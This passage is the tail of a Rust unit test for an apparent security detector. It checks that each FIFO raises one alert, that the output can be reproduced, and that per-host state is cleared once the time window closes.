        paths.dedup();
        assert_eq!(paths.len(), out.len(), "a FIFO alerted twice");
        d.on_watermark(T0 + 100 * S, &mut Vec::new());
        let mut d2 = det();
        assert_eq!(feed(&mut d2), out);
        d.on_watermark(T0 + 3_600 * S, &mut Vec::new());
        assert!(
            d.hosts.is_empty() && d.procs == 0,
            "state left after the window"
        );
    }
}
